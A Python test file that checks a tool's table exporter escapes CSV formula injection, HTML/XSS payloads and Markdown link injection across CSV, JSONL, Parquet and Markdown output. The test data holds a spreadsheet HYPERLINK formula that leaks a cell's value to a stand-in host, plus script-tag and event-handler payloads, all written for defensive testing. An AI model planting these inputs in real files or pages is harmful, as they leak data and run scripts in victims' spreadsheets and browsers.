"""Tables as other programs and spreadsheets read them."""

import csv
import html
import io
import json
import re
from contextlib import closing
from pathlib import Path

import pyarrow.parquet
import pytest

from qtui.exchange import export
from qtui.exchange.export import FORMATS, Rows, encode
from qtui.records import Scale
from qtui.store import grades, judges, open_store, runs
from qtui.text import safe
from tests import stores
from tests.cli.conftest import Invoke, invoke, store_path
from tests.filled_store import fill

__all__ = ["invoke", "store_path"]

FORMULAS = (
    '=HYPERLINK("http://a.example/?"&A1)',
    "+1",
    "-1 は負の数です",
    "- 犬\n- 猫",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1",
    " =1",
    "\u3000＝1",
    "\u00a0\t +1",
    "\ufeff=1",
    "\u200b@SUM(1)",
    "\x00=1",
    "\x1b-1",
    "\v=1",
)
PLAIN = ("猫", "", "1+1=2", "' 引用", "'=1", "''", " 1=1", "「=」", "\u200b猫", "×1")


def cells(content: bytes) -> list[str]:
    return [row[0] for row in csv.reader(io.StringIO(content.decode(), newline=""))][1:]


def column(texts: tuple[str, ...]) -> Rows:
    return Rows(("text",), tuple((text,) for text in texts))


def test_no_cell_of_csv_is_a_formula_to_a_spreadsheet() -> None:
    assert cells(encode(column(FORMULAS), "csv")) == [f"'{text}" for text in FORMULAS]


def test_one_leading_apostrophe_less_gives_every_text_back() -> None:
    texts = FORMULAS + PLAIN
    assert tuple(cell.removeprefix("'") for cell in cells(encode(column(texts), "csv"))) == texts


def test_exact_csv_and_the_other_forms_of_programs_hold_texts_as_they_are() -> None:
    texts = FORMULAS + PLAIN
    assert tuple(cells(encode(column(texts), "csv", exact=True))) == texts
    assert b'{"text": "=1"}\n' in encode(column(("=1",)), "jsonl")


def test_negative_numbers_stay_numbers() -> None:
    assert cells(encode(Rows(("difference",), ((-0.25,), (-3,))), "csv")) == ["-0.25", "-3"]


def test_table_of_nothing_has_its_header(store_path: Path, invoke: Invoke) -> None:
    header = invoke("export", "divergence").stdout
    assert header == ",".join(export.DIVERGENCE_COLUMNS) + "\n"


def test_scores_of_a_model_without_candidates_have_their_header(tmp_path: Path) -> None:
    path = tmp_path / "s.sqlite"
    fill(path, names=("FP16",))
    table = export.score_rows(path, (1,))
    assert (table.columns, table.rows) == (export.SCORE_COLUMNS, ())


def test_scores_have_the_columns_that_they_have_without_a_row(store_path: Path) -> None:
    table = export.score_rows(store_path, (1,))
    assert table.columns == export.SCORE_COLUMNS
    assert len(table.rows) == 2


def test_table_of_nothing_from_several_runs_begins_with_the_experiment(store_path: Path, invoke: Invoke) -> None:
    fill(store_path, "second")
    assert invoke("export", "divergence").stdout.startswith("experiment,model,baseline,")


@pytest.mark.parametrize(("subject", "rows"), [("scores", "2 rows"), ("divergence", "0 rows")])
def test_rows_are_counted_in_words(store_path: Path, invoke: Invoke, tmp_path: Path, subject: str, rows: str) -> None:
    assert invoke("export", subject, "-o", str(tmp_path / "x.csv")).stderr.endswith(f": {rows}\n")


def test_one_row_is_one_row(tmp_path: Path, invoke: Invoke, monkeypatch: pytest.MonkeyPatch) -> None:
    fill(tmp_path / "s.sqlite", grade_of={"FP16": [3]})
    monkeypatch.setenv("QTUI_STORE", str(tmp_path / "s.sqlite"))
    assert invoke("export", "grades", "-o", str(tmp_path / "x.csv")).stderr.endswith(": 1 row\n")


def test_every_exported_grade_says_the_scale_that_it_is_a_number_of(tmp_path: Path) -> None:
    path = tmp_path / "s.sqlite"
    fill(path, names=("FP16",), grade_of={"FP16": [3]})
    scales = {"ten": Scale(1, 10), "percent": Scale(0, 100), "three": Scale(1, 3, ("wrong", "partly", "right"))}
    with closing(open_store(path)) as store:
        for label, scale in scales.items():
            settings = {"scale": {"lowest": scale.lowest, "highest": scale.highest, "labels": list(scale.labels)}}
            with store.writing():
                judges.put(store, 1, label, f"of {label}", takes=1, settings=settings)
            stores.grade(store, 1, {"FP16": [scale.highest]}, judge=label, fingerprint=f"of {label}")
        place = next(iter(grades.places(store, 1).values()))
        grades.commit_human(store, place, 4)
        imported = runs.summaries(store, [1])[0].judges[0].label
    expected = {"ten": "1-10", "percent": "0-100", "three": "1-3", "human": "1-5", imported: "1-5"}

    table = export.grade_rows(path, (1,))

    assert table.columns == export.GRADE_COLUMNS
    found = [dict(zip(table.columns, row, strict=True)) for row in table.rows]
    assert {row["judge"]: row["scale"] for row in found} == expected
    encoded = {form: encode(table, form) for form in FORMATS}
    assert [row["scale"] for row in csv.DictReader(io.StringIO(encoded["csv"].decode()))] == [
        row["scale"] for row in found
    ]
    assert [json.loads(line) for line in encoded["jsonl"].decode().splitlines()] == found
    assert pyarrow.parquet.read_table(io.BytesIO(encoded["parquet"])).to_pylist() == found
    assert "| take | grade | scale | reason |" in encoded["md"].decode()


def test_grades_of_several_runs_have_the_scale_of_their_own_runs_judge(tmp_path: Path) -> None:
    path = tmp_path / "s.sqlite"
    for name, scale in (("first", Scale(1, 10)), ("second", Scale(0, 2))):
        fill(path, name, names=("FP16",), grade_of={"FP16": [2]})
        with closing(open_store(path)) as store:
            run_id = runs.summaries(store)[0].id
            settings = {"scale": {"lowest": scale.lowest, "highest": scale.highest, "labels": []}}
            with store.writing():
                judges.put(store, run_id, "own", name, takes=1, settings=settings)
            stores.grade(store, run_id, {"FP16": [2]}, judge="own", fingerprint=name)
    table = export.grade_rows(path, (1, 2))
    found = [dict(zip(table.columns, row, strict=True)) for row in table.rows]
    assert {(row["experiment"], row["scale"]) for row in found if row["judge"] == "own"} == {
        ("first", "1-10"),
        ("second", "0-2"),
    }


def test_json_lines_have_escapes_for_all_that_a_terminal_obeys_and_hold_the_same_texts() -> None:
    texts = tuple(map(chr, (*range(0x300), *range(0x2000, 0x2100), 0xFE0F, 0xFEFF, 0xFFFF, 0xE0041, 0x1F600)))
    written = encode(column(texts), "jsonl").decode()
    lines = written.removesuffix("\n").split("\n")
    assert [json.loads(line)["text"] for line in lines] == list(texts)
    assert safe(written) == written


HTML = (
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "&lt;script&gt;",
    "<!-- c --><svg/onload=alert(1)>",
    "\n</td></tr></table><script>",
)


@pytest.mark.parametrize("text", HTML)
def test_markdown_has_no_tag_and_no_entity_of_a_text(text: str) -> None:
    row = encode(column((text,)), "md").decode().splitlines()[2]
    shown = row.removeprefix("| ").removesuffix(" |").replace("<br>", "\n")
    assert "<" not in shown
    assert html.unescape(shown) == text


LINKS = (
    "[a](http://a.example)",
    "![](http://a.example/?x)",
    "[![a](b)](c)",
    "[a]\n(b)",
    "\\[a](b)",
    "[a]\\(b)",
    "[a](<b>)",
)


@pytest.mark.parametrize("text", LINKS)
def test_markdown_has_no_link_and_no_image_of_a_text(text: str) -> None:
    """A link or image needs `](` without a backslash that escapes one of them."""
    row = encode(column((text,)), "md").decode().splitlines()[2]
    assert "](" not in re.sub(r"\\[\\|(]", "  ", row)


def test_a_pipe_stays_in_its_cell_whatever_is_before_it() -> None:
    row = encode(column(("a | b \\| c `|` \\\\|",)), "md").decode().splitlines()[2]
    inside = row.removeprefix("| ").removesuffix(" |")
    assert "|" not in re.sub(r"\\[\\|]", "", inside)
